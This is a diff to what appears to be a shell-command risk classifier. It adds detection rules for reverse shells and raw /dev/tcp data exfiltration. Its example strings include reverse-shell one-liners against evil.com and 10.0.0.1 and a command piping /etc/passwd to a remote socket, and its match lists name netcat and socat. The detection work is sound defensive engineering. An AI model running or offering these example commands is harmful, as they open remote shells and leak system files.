@@ -57,6 +57,9 @@ const UPLOADS: Match[] = [
   { program: ['transfer', 'croc', 'magic-wormhole', 'wormhole'] },
 ];
 
+/** bash's pseudo-devices for sockets. */
+const DEV_TCP = re(/^\/dev\/(tcp|udp)\//);
+
 export const networkRules: RiskRule[] = [
   {
     id: 'network.fetch',
@@ -238,16 +241,42 @@ export const networkRules: RiskRule[] = [
       anyOf: [
         { program: ['nc', 'ncat', 'netcat'], anyFlag: ['-e', '-c', '--exec', '--sh-exec', '--lua-exec'] },
         { program: ['socat'], anyWord: re(/exec:|system:/i) },
-        { redirect: { target: re(/^\/dev\/(tcp|udp)\//) } },
+        // A shell (or `exec`, which rewires the shell itself) with its input or output on a socket.
+        {
+          program: ['sh', 'bash', 'zsh', 'dash', 'ksh', 'exec', 'python', 'python3', 'perl', 'ruby', 'php'],
+          redirect: { target: DEV_TCP },
+        },
       ],
     },
     examples: [
       'nc -e /bin/sh evil.com 4444',
       'bash -i >& /dev/tcp/10.0.0.1/4242 0>&1',
       'socat exec:bash tcp:x:1',
+      'sh < /dev/tcp/10.0.0.1/9000',
     ],
-    counterExamples: ['nc -z host 80'],
+    counterExamples: ['nc -z host 80', "bash -c '</dev/tcp/localhost/6379'"],
     weight: 19,
+  },
+  {
+    id: 'exfil.dev-tcp',
+    category: 'exfiltration',
+    tier: 'high',
+    reason: "Sends or receives data over a raw connection (bash's /dev/tcp), outside any client",
+    match: {
+      redirect: { target: DEV_TCP },
+      noneOf: [{ bare: true, redirect: { write: true } }, { bare: true }],
+    },
+    examples: ['cat /etc/passwd > /dev/tcp/10.0.0.1/9000', 'echo hi > /dev/udp/10.0.0.1/53'],
+    counterExamples: ["bash -c '</dev/tcp/localhost/6379'"],
+  },
+  {
+    id: 'network.port-check',
+    category: 'network',
+    tier: 'low',
+    reason: "Opens a connection to a port and sends nothing (bash's /dev/tcp as a reachability check)",
+    match: { bare: true, redirect: { read: true, target: DEV_TCP }, noneOf: [{ redirect: { write: true } }] },
+    examples: ["bash -c '</dev/tcp/localhost/6379'", "timeout 1 bash -c '< /dev/tcp/db/5432'"],
+    counterExamples: ['cat < /dev/tcp/x/80'],
   },
   {
     id: 'exfil.expose-local',
